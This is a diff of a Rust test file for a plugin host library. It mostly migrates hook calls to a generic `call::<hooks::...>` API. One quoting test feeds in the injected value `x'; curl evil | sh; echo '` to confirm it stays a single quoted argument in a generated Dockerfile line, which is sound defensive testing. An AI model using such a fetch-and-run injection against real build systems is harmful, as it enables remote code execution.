@@ -1,15 +1,14 @@
 //! The sample plugins, built from source, driven through the host's public API.
 
-mod support;
-
 use std::sync::Arc;
 
 use paddock::merge::{bootstrap_scripts, merge_env_vars, render_dockerfile};
-use paddock::{
-    ActionReport, Error, FailureCause, Hook, HookValue, ParamValue, Plugin, PluginConfig, PluginSet,
+use paddock::{hooks, 
+    ActionReport, Error, FailureCause, Hook, ParamValue, Plugin, PluginConfig, PluginSet,
     Status,
 };
-use support::{SAMPLES, deployment, host, misbehaving_bundle, sample_bundle};
+
+use crate::support::{SAMPLES, deployment, host, misbehaving_bundle, sample_bundle};
 
 fn load(name: &str) -> Plugin {
     host().load_file(&sample_bundle(name)).expect("load sample")
@@ -41,7 +40,7 @@ fn lowest_priority_runs_first_and_ties_keep_configured_order() {
         ("docker-layers", PluginConfig::default()),
         ("hello-world", PluginConfig::default()),
     ];
-    let outcomes = set_of(&configured).deploy(&deployment());
+    let outcomes = set_of(&configured).call::<hooks::Deploy>(&deployment());
     assert_eq!(order(&outcomes), ["hello-world", "runtime-env", "docker-layers", "deploy-recorder"]);
     assert_eq!(outcomes.iter().map(|o| o.priority).collect::<Vec<_>>(), [-1, 0, 0, 10]);
 
@@ -51,7 +50,7 @@ fn lowest_priority_runs_first_and_ties_keep_configured_order() {
         ("hello-world", PluginConfig::default()),
         ("runtime-env", PluginConfig::default()),
     ];
-    let outcomes = set_of(&swapped).deploy(&deployment());
+    let outcomes = set_of(&swapped).call::<hooks::Deploy>(&deployment());
     assert_eq!(order(&outcomes), ["hello-world", "docker-layers", "runtime-env", "deploy-recorder"]);
 }
 
@@ -69,7 +68,7 @@ fn typed_results_and_unimplemented_hooks_are_skipped() {
         ),
         ("deploy-recorder", PluginConfig::default()),
     ]);
-    let outcomes = set.dockerfile_injection(&deployment());
+    let outcomes = set.call::<hooks::DockerfileInjection>(&deployment());
     assert_eq!(outcomes[0].status, Status::Ok(vec!["RUN echo 'Hi!' > /home/jovyan/hello-world-plugin.txt".to_string()]));
     assert_eq!(outcomes[1].status, Status::Skipped);
     assert_eq!(
@@ -102,7 +101,7 @@ fn env_vars_merge_with_a_conflict_report() {
             ]),
         ),
     ]);
-    let outcomes = set.job_runtime_env_vars(&deployment());
+    let outcomes = set.call::<hooks::JobRuntimeEnvVars>(&deployment());
     let runtime = outcomes[1].status.ok().expect("runtime-env ok");
     assert_eq!(
         runtime,
@@ -135,7 +134,7 @@ fn bootstrap_scripts_are_kept_separate_and_named_by_plugin_id() {
         .unwrap()
         .build()
         .unwrap();
-    let outcomes = set.bootstrap_injection(&deployment());
+    let outcomes = set.call::<hooks::BootstrapInjection>(&deployment());
     assert_eq!(outcomes[1].status, Status::Skipped);
     let scripts = bootstrap_scripts(&outcomes);
     assert_eq!(scripts.len(), 1);
@@ -157,7 +156,7 @@ fn deploy_recorder_reports_what_it_was_asked_to_do() {
             ],
         },
     )]);
-    let outcomes = set.destroy(&deployment());
+    let outcomes = set.call::<hooks::Destroy>(&deployment());
     let expected = ActionReport {
         summary: "asked to destroy sentiment@1.4.2 for team data-science in dev-env".into(),
         details: [
@@ -183,7 +182,7 @@ fn a_plugin_reported_error_names_plugin_version_and_hook() {
         ("runtime-env", params(&[("extra", ParamValue::TextList(vec!["no-equals-sign".into()]))])),
         ("hello-world", PluginConfig::default()),
     ]);
-    let outcomes = set.job_runtime_env_vars(&deployment());
+    let outcomes = set.call::<hooks::JobRuntimeEnvVars>(&deployment());
     let failure = outcomes[1].status.failure().expect("runtime-env fails");
     assert_eq!(
         failure.cause,
@@ -199,12 +198,19 @@ fn a_plugin_reported_error_names_plugin_version_and_hook() {
 #[test]
 fn dynamic_run_matches_the_typed_call() {
     let set = set_of(&[("hello-world", PluginConfig::default()), ("docker-layers", PluginConfig::default())]);
-    let typed = set.dockerfile_injection(&deployment());
-    let dynamic = set.run(Hook::DockerfileInjection, &deployment());
-    assert_eq!(dynamic.len(), typed.len());
-    for (d, t) in dynamic.iter().zip(&typed) {
-        assert_eq!(d.status, t.status.clone().map(HookValue::DockerfileLines));
+    let typed = set.call::<hooks::DockerfileInjection>(&deployment());
+    let dynamic = set.run("dockerfile-injection".parse::<Hook>().unwrap(), &deployment());
+    assert_eq!(dynamic.hook(), Hook::DockerfileInjection);
+    let described = dynamic.described();
+    assert_eq!(described.len(), typed.len());
+    for (d, t) in described.iter().zip(&typed) {
+        assert_eq!((&d.id, &d.status), (&t.id, &t.status));
     }
+    let records: Vec<_> = typed.iter().map(|outcome| outcome.record()).collect();
+    assert_eq!(dynamic.json().unwrap(), serde_json::to_value(records).unwrap());
+    // The declaration's merged view is the library's merge.
+    let merged = dynamic.merged(&paddock::hooks::MergeInputs { base_image: "jupyter:1" }).unwrap().unwrap();
+    assert_eq!(merged.json, serde_json::Value::from(render_dockerfile("jupyter:1", &typed).unwrap()));
 }
 
 #[test]
@@ -244,7 +250,7 @@ fn a_set_file_gives_order_ids_and_parameters() {
     let set = PluginSet::builder(host()).add_set_file(&set_file).unwrap().build().unwrap();
     let ids: Vec<&str> = set.plugins().map(|(_, id)| id).collect();
     assert_eq!(ids, ["docker-layers", "env"]);
-    let outcomes = set.job_runtime_env_vars(&deployment());
+    let outcomes = set.call::<hooks::JobRuntimeEnvVars>(&deployment());
     let vars = outcomes[1].status.ok().unwrap();
     assert!(vars.contains(&("LOG_LEVEL".to_string(), "error".to_string())));
     assert!(vars.contains(&("X".to_string(), "1".to_string())));
@@ -267,11 +273,11 @@ fn the_host_runs_hooks_from_many_threads_at_once() {
     assert_send_sync::<paddock::Host>();
     assert_send_sync::<PluginSet>();
     let set = Arc::new(set_of(&[("hello-world", PluginConfig::default()), ("runtime-env", PluginConfig::default())]));
-    let expected = set.job_runtime_env_vars(&deployment());
+    let expected = set.call::<hooks::JobRuntimeEnvVars>(&deployment());
     let threads: Vec<_> = (0..4)
         .map(|_| {
             let set = set.clone();
-            std::thread::spawn(move || (0..25).map(|_| set.job_runtime_env_vars(&deployment())).collect::<Vec<_>>())
+            std::thread::spawn(move || (0..25).map(|_| set.call::<hooks::JobRuntimeEnvVars>(&deployment())).collect::<Vec<_>>())
         })
         .collect();
     for thread in threads {
@@ -291,16 +297,16 @@ fn a_session_passes_each_call_its_own_deployment() {
     };
     let first = deployment();
     let second = paddock::Deployment { job_name: "churn-model".into(), ..deployment() };
-    assert_eq!(job_name(session.job_runtime_env_vars(&first)), Some("sentiment".into()));
-    assert_eq!(job_name(session.job_runtime_env_vars(&second)), Some("churn-model".into()));
-    assert_eq!(job_name(session.job_runtime_env_vars(&first)), Some("sentiment".into()));
+    assert_eq!(job_name(session.call::<hooks::JobRuntimeEnvVars>(&first)), Some("sentiment".into()));
+    assert_eq!(job_name(session.call::<hooks::JobRuntimeEnvVars>(&second)), Some("churn-model".into()));
+    assert_eq!(job_name(session.call::<hooks::JobRuntimeEnvVars>(&first)), Some("sentiment".into()));
 }
 
 #[test]
 fn a_hostile_greeting_stays_one_quoted_argument() {
     let greeting = "x'; curl evil | sh; echo '";
     let set = set_of(&[("hello-world", params(&[("greeting", ParamValue::Text(greeting.into()))]))]);
-    let outcomes = set.dockerfile_injection(&deployment());
+    let outcomes = set.call::<hooks::DockerfileInjection>(&deployment());
     let line = r"RUN echo 'x'\''; curl evil | sh; echo '\''' > /home/jovyan/hello-world-plugin.txt";
     assert_eq!(outcomes[0].status, Status::Ok(vec![line.to_string()]));
     // What the image's /bin/sh makes of it: echo with one argument, the greeting as given.
@@ -343,7 +349,7 @@ fn heredoc_openers_are_refused_and_the_next_plugin_is_unaffected() {
             .unwrap()
             .build()
             .unwrap();
-        let outcomes = set.dockerfile_injection(&deployment());
+        let outcomes = set.call::<hooks::DockerfileInjection>(&deployment());
         let failure = outcomes[0].status.failure().unwrap_or_else(|| panic!("{opener_line}: {:?}", outcomes[0].status));
         assert!(
             matches!(&failure.cause, FailureCause::InvalidOutput(problem) if problem.contains("heredoc")),
